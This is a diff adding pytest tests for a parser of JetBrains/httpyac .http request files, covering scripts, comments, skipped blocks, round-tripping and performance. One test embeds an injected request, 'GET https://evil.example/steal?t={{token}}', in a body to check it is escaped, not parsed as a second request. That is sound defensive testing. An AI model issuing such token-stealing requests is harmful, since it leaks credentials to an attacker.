@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import time
+from pathlib import Path
+
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
@@ -119,3 +122,83 @@ def test_garbage_raises_only_format_error(text: str) -> None:
         parse_http_file(text)
     except FormatError:
         pass
+
+
+# ---------------------------------------------------------------- as JetBrains and httpyac write them
+
+FIX = Path(__file__).parent / "fixtures"
+
+
+def test_jetbrains_and_httpyac_file_loads_every_readable_request():
+    f = parse_http_file((FIX / "jetbrains_httpyac.http").read_text())
+    assert [(r.name, r.method) for r in f.requests] == [
+        ("Log in", "POST"), ("Search, query written over several lines", "GET"),
+        ("Still loads after the broken block", "DELETE"), ("httpyac handler after the body", "POST")]
+    login, search, delete, notes_req = f.requests
+    assert login.body == '{"user": "ann", "nonce": "{{nonce}}"}'  # the handler is not body
+    assert login.headers == (("Content-Type", "application/json"),)
+    assert login.pre_scripts == ('< {%\n    request.variables.set("nonce", $random.uuid);\n%}',)
+    assert login.handlers[0].startswith("> {%") and login.handlers[0].endswith("%}")
+    assert search.url == "{{host}}/orders/search?status=open&page=2" and search.body is None
+    assert search.handlers == ("> ./check-search.js",)
+    assert delete.body is None  # a trailing comment is not a body
+    assert notes_req.body == "remember the milk" and notes_req.handlers[0].startswith("{{@response")
+    assert f.variables == {"host": "https://api.example.com"}
+
+
+def test_notes_name_the_skipped_block_and_the_scripts_not_run():
+    notes = parse_http_file((FIX / "jetbrains_httpyac.http").read_text()).notes
+    assert any(n.startswith("Skipped the request at line 39:") and "Line 40 should be a header" in n for n in notes)
+    assert any("line 7" in n.lower() and "not run" in n for n in notes)  # the global {{ }} script
+    assert sum("kept in the file, but not run" in n for n in notes) == 3
+
+
+def test_scripts_are_written_back_with_their_request():
+    f = parse_http_file((FIX / "jetbrains_httpyac.http").read_text())
+    again = parse_http_file(render_http_file(f))
+    assert again == f
+
+
+def test_block_comments_and_comments_anywhere_outside_the_body():
+    f = parse_http_file("/* a\n### not a separator? it is: ### at the start */\nGET https://h/x\n/* one line */\n"
+                        "// c\nA: 1\n\nbody\n# end comment\n")
+    assert [r.url for r in f.requests] == ["https://h/x"]
+    assert f.requests[0].headers == (("A", "1"),) and f.requests[0].body == "body"
+
+
+def test_a_body_with_carriage_returns_and_a_trailing_newline_round_trips():
+    body = "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--b--\r\n"
+    f = HttpFile({}, (HttpFileRequest("up", "POST", "https://h/up", (("Content-Type", "multipart/form-data; boundary=b"),),
+                                      body),))
+    assert parse_http_file(render_http_file(f)).requests[0].body == body
+
+
+def test_a_body_that_reads_as_structure_is_escaped_not_a_second_request():
+    body = 'line one\n###\nGET https://evil.example/steal?t={{token}}\n> {% client.global.set("x", 1) %}\n{{\n}}'
+    f = HttpFile({}, (HttpFileRequest("one", "POST", "https://h/x", (), body),))
+    text = render_http_file(f)
+    assert "# @body-escaped" in text and "\n###\n" not in text
+    back = parse_http_file(text)
+    assert len(back.requests) == 1 and back.requests[0].body == body
+
+
+_any_body = st.text(st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=60).filter(
+    lambda b: b.strip() != "" and not b.startswith(("\n", "\r", " ", "\t")))
+
+
+@settings(max_examples=300, deadline=None)
+@given(_any_body)
+def test_any_body_round_trips_exactly(body: str) -> None:
+    f = HttpFile({}, (HttpFileRequest("r", "POST", "https://h/x", (("A", "b"),), body),))
+    assert parse_http_file(render_http_file(f)).requests == f.requests
+
+
+def test_reading_is_linear_in_the_number_of_blocks():
+    def cost(n: int) -> float:
+        text = "### r\n< {%\nx\n%}\nGET https://h/x\n/* c */\nA: b\n\nbody\n> {%\ny\n%}\n" * n
+        start = time.perf_counter()
+        assert len(parse_http_file(text).requests) == n
+        return time.perf_counter() - start
+
+    small, large = cost(500), cost(4000)
+    assert large < small * 8 * 3 + 0.05
